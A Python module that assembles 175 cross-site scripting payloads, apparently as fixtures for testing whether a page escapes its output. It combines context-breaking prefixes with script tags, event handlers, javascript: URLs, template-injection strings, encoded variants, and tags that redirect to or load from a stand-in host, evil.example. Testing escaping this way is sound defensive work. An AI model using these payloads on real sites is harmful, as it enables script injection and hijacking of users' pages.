"""Payloads that would run, load or break out if any were put on a page unescaped; each sets ``hacked``."""

from __future__ import annotations

from itertools import product

RUN = "window.hacked=1"
BREAKERS = ("", '">', "'>", "</textarea>", "</title><p>", "--><!--", "</script>", "</style>", "]]>", "` ")
"""Ends of what the payload might stand in."""
VECTORS = (
    f"<script>{RUN}</script>",
    f"<ScRiPt >{RUN}</sCrIpT>",
    f"<img src=x onerror={RUN}>",
    f"<svg/onload={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<body onpageshow={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f'<iframe srcdoc="<script>parent.{RUN.removeprefix("window.")}</script>"></iframe>',
    f"<iframe src=javascript:parent.{RUN.removeprefix('window.')}></iframe>",
    f'<object data="data:text/html,<script>{RUN}</script>"></object>',
    f"<math><mtext></table><mglyph><style><!--</style><img src onerror={RUN}>",
    f'<a href="javascript:{RUN}" id=hacked-link>bấm</a>',
    f'<form action="javascript:{RUN}"><button autofocus>x</button></form>',
)
BARE = (
    f'" onmouseover={RUN} autofocus onfocus={RUN} x="',
    f"' onmouseover='{RUN}' autofocus onfocus='{RUN}",
    f"javascript:{RUN}",
    f"{{{{constructor.constructor('{RUN}')()}}}}",
    f"${{{RUN}}}",
    f"<%= {RUN} %>",
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
    f"\u202e<b onclick={RUN}>ngược</b>",
    f"<img src=x\u00a0onerror={RUN}>",
    f"＜script＞{RUN}＜/script＞",
    "<style>*{display:none}</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
)
PAYLOADS = tuple(f"{start}{vector}" for start, vector in product(BREAKERS, VECTORS)) + BARE
"""175 of them."""
